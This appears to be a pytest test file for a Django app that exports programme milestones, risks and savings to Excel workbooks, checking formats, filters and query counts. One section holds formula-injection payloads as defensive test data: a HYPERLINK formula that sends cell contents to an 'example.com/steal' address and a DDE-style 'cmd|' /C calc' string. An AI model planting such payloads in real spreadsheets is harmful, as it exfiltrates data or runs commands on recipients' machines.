"""Exports: every list to .xlsx with a bold frozen header, autofilter, widths, real dates with the
words beside them, pound formats, RAG cells coloured with their word; the whole programme as one
workbook; text that looks like a formula written as text; queries that do not grow with the rows."""

import io
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from core import fuzzydates
from core.records import plain_text
from exports import workbook as export
from exports.sheets import SHEETS
from imports import guessing, importing
from imports.plans import UNCHANGED
from imports.reading import read_book
from milestones.models import DateChange, Milestone
from milestones.services import milestone_create, milestone_edit, milestone_reschedule
from programmes.models import Risk, SavingsLine, ServiceArea
from tests.imports.conftest import AGMA, WIGAN, read_back, snapshot

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.imports.urls")]


def download(client, name: str, **kwargs) -> bytes:
    query = kwargs.pop("query", "")
    response = client.get(reverse(f"spreadsheets:{name}", kwargs=kwargs) + query)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;")
    return b"".join(response.streaming_content)


def rows_of(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_a_list_exports_with_a_bold_frozen_filtered_header_and_sensible_widths(reader_client):
    data = download(reader_client, "export", programme=AGMA, kind="milestones")
    book = read_back(data)
    assert book.sheetnames == ["Milestones", "Date changes", "About these columns"]
    sheet = book["Milestones"]
    header = [cell.value for cell in sheet[1]]
    assert header[:5] == [
        "ID",
        "Version",
        "Reference",
        "Service Area",
        "Stage of the Delivery plan",
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{sheet.max_row}"
    widths = {
        header[i]: sheet.column_dimensions[cell.column_letter].width
        for i, cell in enumerate(sheet[1])
    }
    assert widths["ID"] < widths["Milestone"] < widths["Comment / current activity"]
    assert sheet.max_row - 1 == Milestone.objects.filter(service_area__programme__slug=AGMA).count()


def test_dates_are_real_excel_dates_with_the_words_beside_them_when_fuzzy(reader_client):
    book = read_back(download(reader_client, "export", programme=AGMA, kind="milestones"))
    sheet = book["Milestones"]
    rows = rows_of(sheet)
    hr = next(row for row in rows if row["Milestone"] == "Stage 0-1")
    assert hr["Planned start"] == datetime(2009, 9, 1)  # a start: its first day
    assert hr["Planned start (as written)"] == "September '09"
    assert hr["Planned completion"] == datetime(2010, 6, 30)  # due by its last day
    assert hr["Planned completion (as written)"] == "June 2010"
    assert hr["Date changes"] == (
        "Planned completion: Dec 2009, extended to Mar 2010, extended to Jun 2010 (Extended)"
    )
    column = [c.value for c in sheet[1]].index("Planned completion") + 1
    assert sheet.cell(2, column).number_format == "DD/MM/YYYY"
    moves = rows_of(book["Date changes"])
    assert [
        (m["Date"], m["From (as written)"], m["To (as written)"], m["Reason"])
        for m in moves
        if m["Milestone"] == "Stage 0-1"
    ] == [
        ("Planned completion", "December '09", "March 2010", "Extended"),
        ("Planned completion", "March 2010", "June 2010", "Extended"),
    ]


def test_a_day_written_as_we_print_it_needs_no_words(agma):
    area = agma.service_areas.get(name="IT")
    milestone_create(
        service_area=area,
        title="Go live",
        planned_completion=fuzzydates.FuzzyDate.from_date(datetime(2010, 7, 31).date()),
    )
    rows = rows_of(
        read_back(export.write_list(agma, "milestones", export.milestone_rows(agma)).read())[
            "Milestones"
        ]
    )
    row = next(row for row in rows if row["Milestone"] == "Go live")
    assert row["Planned completion"] == datetime(2010, 7, 31)
    assert row["Planned completion (as written)"] is None


def test_rag_cells_are_coloured_and_say_their_word(reader_client, wigan):
    sheet = read_back(download(reader_client, "export", programme=WIGAN, kind="risks"))["Risks"]
    header = [c.value for c in sheet[1]]
    column = header.index("RAG status") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    words = {cell.value for cell in cells}
    assert words == {"Red", "Amber", "Green"}
    fills = {cell.value: cell.fill.fgColor.rgb for cell in cells}
    assert fills == {"Red": "00FFC7CE", "Amber": "00FFEB9C", "Green": "00C6EFCE"}
    first = rows_of(sheet)[0]
    assert first["Risk"] == "Leadership"
    assert (first["Likelihood"], first["Likelihood (words)"]) == (
        "High",
        "Throughout the process so therefore will be",
    )
    assert first[wigan.service_area_label] == "Whole programme"


def test_risks_carry_the_matrix_rating_beside_the_status_chosen(reader_client, wigan):
    """Leadership is High likelihood by Medium impact, which the matrix rates Red; its officer
    chose Amber. The workbook says both, as the register does; an import leaves the rating."""
    sheet = read_back(download(reader_client, "export", programme=WIGAN, kind="risks"))["Risks"]
    first = rows_of(sheet)[0]
    assert (first["Risk"], first["Rating (likelihood × impact)"], first["RAG status"]) == (
        "Leadership",
        "Red",
        "Amber",
    )
    assert not SHEETS["risks"].column("rating").importable


def test_savings_by_year_sheet_matches_the_savings_page(reader_client):
    mip = "manchester-improvement-programme"
    book = read_back(download(reader_client, "export", programme=mip, kind="savings"))
    years = rows_of(book["Savings by financial year"])
    first = years[0]
    assert (first["Financial year"], first["Cashable or non-cashable"]) == ("2007/08", "Cashable")
    y2008 = next(row for row in years if row["Financial year"] == "2008/09")
    # The savings page's row: 2008/09 £13,182,000 £10,885,000 — £2,297,000 £13,182,000 £1,100,000
    assert (y2008["Target"], y2008["Forecast"], y2008["Achieved"], y2008["Shortfall"]) == (
        13182000,
        10885000,
        None,
        2297000,
    )
    assert (y2008["Cumulative target"], y2008["Cumulative achieved"]) == (13182000, 1100000)


def test_money_has_pound_formats(reader_client, agma):
    SavingsLine.objects.create(
        programme=agma, financial_year=2009, target=Decimal("13182000"), achieved=Decimal("3995.50")
    )
    sheet = read_back(download(reader_client, "export", programme=AGMA, kind="savings"))["Savings"]
    header = [c.value for c in sheet[1]]
    target = sheet.cell(2, header.index("Target") + 1)
    achieved = sheet.cell(2, header.index("Achieved") + 1)
    assert (target.value, target.number_format) == (13182000, '"£"#,##0')
    assert (achieved.value, achieved.number_format) == (3995.5, '"£"#,##0.00')
    assert sheet.cell(2, header.index("Financial year") + 1).value == "2009/10"


def test_the_export_has_the_rows_the_list_page_shows_for_the_same_filters(reader_client, agma):
    area = ServiceArea.objects.get(programme=agma, name="Transactional HR")
    data = download(
        reader_client, "export", programme=AGMA, kind="milestones", query=f"?service_area={area.pk}"
    )
    titles = [row["Milestone"] for row in rows_of(read_back(data)["Milestones"])]
    assert titles == list(area.milestones.order_by("order", "id").values_list("title", flat=True))
    assert titles
    slipped = download(
        reader_client, "export", programme=AGMA, kind="milestones", query="?slipped=on"
    )
    assert {row["Milestone"] for row in rows_of(read_back(slipped)["Milestones"])} == set(
        Milestone.objects.for_programme(agma).slipped().values_list("title", flat=True)
    )
    invalid = download(
        reader_client, "export", programme=AGMA, kind="milestones", query="?due_from=31/02/2010"
    )
    assert rows_of(read_back(invalid)["Milestones"]) == []


def test_every_list_exports_all_its_rows(reader_client):
    from exports.sheets import SHEETS
    from programmes.models import Programme

    wigan = Programme.objects.get(slug=WIGAN)
    for kind in ("milestones", "risks", "savings", "budget", "actions", "meetings"):
        book = read_back(download(reader_client, "export", programme=WIGAN, kind=kind))
        assert book.sheetnames[0] == SHEETS[kind].title
        assert book.sheetnames[-1] == "About these columns"
        assert len(rows_of(book[SHEETS[kind].title])) == export.ROWS[kind](wigan).count(), kind


def test_an_unknown_list_is_not_found(reader_client):
    response = reader_client.get(
        reverse("spreadsheets:export", kwargs={"programme": AGMA, "kind": "secrets"})
    )
    assert response.status_code == 404


def test_the_whole_programme_workbook_has_a_sheet_per_kind_and_explains_each_column(reader_client):
    book = read_back(download(reader_client, "workbook", programme=WIGAN))
    assert book.sheetnames == [
        "Milestones",
        "Date changes",
        "Risks",
        "Savings",
        "Savings by financial year",
        "Savings re-allocations",
        "Budget",
        "Actions",
        "Meetings",
        "About these columns",
    ]
    about = rows_of(book["About these columns"])
    explained = {(row["Sheet"], row["Column"]) for row in about}
    for title in book.sheetnames[:-1]:
        for cell in book[title][1]:
            assert (title, cell.value) in explained
    version = next(row for row in about if (row["Sheet"], row["Column"]) == ("Risks", "Version"))
    assert (
        "refuses to overwrite a risk that someone changed after the export"
        in version["What it holds"]
    )
    assert version["Read back by an import"] == "Yes"
    budget = next(row for row in about if row["Sheet"] == "Budget" and row["Column"] == "Item")
    assert budget["Read back by an import"] == "No"


def test_the_command_writes_the_same_workbook(tmp_path, wigan):
    target = tmp_path / "wigan.xlsx"
    out = io.StringIO()
    call_command("export_programme", WIGAN, output=str(target), stdout=out)
    assert f"Wrote {wigan.name} to {target}." in out.getvalue()
    book = read_back(target.read_bytes())
    assert len(rows_of(book["Risks"])) == Risk.objects.filter(programme=wigan).count()


def test_the_command_refuses_an_unknown_programme(tmp_path):
    with pytest.raises(CommandError, match="There is no programme called 'nowhere'"):
        call_command("export_programme", "nowhere", output=str(tmp_path / "x.xlsx"))


# --- text that looks like a formula -------------------------------------------------------------

RISKY = [
    '=HYPERLINK("http://example.com/steal?"&A1,"Click for details")',
    "+44 161 234 5678",
    "-5 days behind the plan",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "#N/A",
]


def test_text_that_looks_like_a_formula_is_written_as_text_and_comes_back_unchanged(agma):
    area = agma.service_areas.get(name="IT")
    for number, words in enumerate(RISKY):
        milestone_create(service_area=area, title=f"Risky {number}", comment=words)
    data = export.write_list(agma, "milestones", export.milestone_rows(agma)).read()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = read_back(data)["Milestones"]
    header = [c.value for c in sheet[1]]
    column = header.index("Comment / current activity") + 1
    titles = header.index("Milestone") + 1
    cells = {
        sheet.cell(row, titles).value: sheet.cell(row, column)
        for row in range(2, sheet.max_row + 1)
    }
    for number, words in enumerate(RISKY):
        cell = cells[f"Risky {number}"]
        assert cell.data_type == "s"
        assert cell.quotePrefix
        assert cell.value.strip() == words.strip()
    before = snapshot()
    book = read_book(data, "milestones.xlsx")
    mappings = guessing.guess_book(book, agma)
    plan = importing.preview(programme=agma, book=book, mappings=mappings)
    assert {row.action for row in plan.rows} == {UNCHANGED}
    importing.commit(programme=agma, book=book, mappings=mappings)
    assert snapshot()[0] == before[0]
    assert sorted(
        Milestone.objects.filter(title__startswith="Risky").values_list("comment", flat=True)
    ) == sorted(plain_text(words) for words in RISKY)  # a lone "\r" is kept as "\n"


# --- queries --------------------------------------------------------------------------------


def grow(programme, scale: int):
    """Add ``scale`` service areas of ten milestones each, a third of them moved, and a risk."""
    areas = ServiceArea.objects.bulk_create(
        ServiceArea(programme=programme, name=f"Extra area {n}", order=100 + n)
        for n in range(scale)
    )
    milestones = Milestone.objects.bulk_create(
        Milestone(
            service_area=area,
            title=f"Milestone {index}",
            planned_start=fuzzydates.parse("January 2010"),
            planned_completion=fuzzydates.parse("June 2010"),
        )
        for area in areas
        for index in range(10)
    )
    DateChange.objects.bulk_create(
        DateChange(
            milestone=milestone,
            field="planned_completion",
            old=fuzzydates.parse("March 2010"),
            new=fuzzydates.parse("June 2010"),
            direction=DateChange.Direction.LATER,
            reason="Extended",
        )
        for milestone in milestones[::3]
    )
    Risk.objects.bulk_create(
        Risk(programme=programme, service_area=area, title="Extra", rag="red") for area in areas
    )


# Queries per download, whatever the number of rows: the session, the user, the programme, the
# user's rights (two), the savepoints of ATOMIC_REQUESTS, and the rows of each sheet.
EXPORT_QUERIES = {"milestones": 10, "risks": 8, "savings": 9, "budget": 8, "actions": 8}
# meetings: their agendas too; workbook: and counting milestones (a large one is a job)
EXPORT_QUERIES |= {"meetings": 10, "workbook": 19}


@pytest.mark.parametrize("scale", [1, 10])
@pytest.mark.parametrize("what", EXPORT_QUERIES)
def test_export_queries_do_not_grow_with_the_rows(
    what, scale, reader_client, agma, django_assert_max_num_queries
):
    grow(agma, scale)
    kwargs = {} if what == "workbook" else {"kind": what}
    with django_assert_max_num_queries(EXPORT_QUERIES[what]):
        download(
            reader_client, "workbook" if what == "workbook" else "export", programme=AGMA, **kwargs
        )


def test_a_moved_milestone_exports_each_move(agma):
    area = agma.service_areas.get(name="IT")
    milestone = milestone_create(
        service_area=area, title="Data centre", planned_completion=fuzzydates.parse("May 2010")
    )
    milestone_reschedule(
        milestone=milestone,
        field="planned_completion",
        new=fuzzydates.parse("=July 2010"),
        reason="=cmd",
    )
    book = read_back(export.write_programme(agma).read())
    moves = [row for row in rows_of(book["Date changes"]) if row["Milestone"] == "Data centre"]
    assert [(m["To (as written)"], m["Reason"]) for m in moves] == [("=July 2010", "=cmd")]


def test_a_first_forecast_later_than_the_plan_exports_as_later(agma):
    area = agma.service_areas.get(name="IT")
    milestone = milestone_create(
        service_area=area, title="Data centre", planned_completion=fuzzydates.parse("May 2010")
    )
    milestone_edit(
        milestone=milestone,
        opened_version=milestone.version,
        changes={"forecast_completion": fuzzydates.parse("July 2010")},
        reason="Supplier late",
    )
    book = read_back(export.write_programme(agma).read())
    (row,) = [row for row in rows_of(book["Milestones"]) if row["Milestone"] == "Data centre"]
    assert row["Date changes"] == (
        "Forecast completion: as planned, extended to Jul 2010 (Supplier late)"
    )
    moves = [row for row in rows_of(book["Date changes"]) if row["Milestone"] == "Data centre"]
    assert [(m["From (as written)"], m["To (as written)"], m["Which way"]) for m in moves] == [
        (None, "July 2010", "later")
    ]
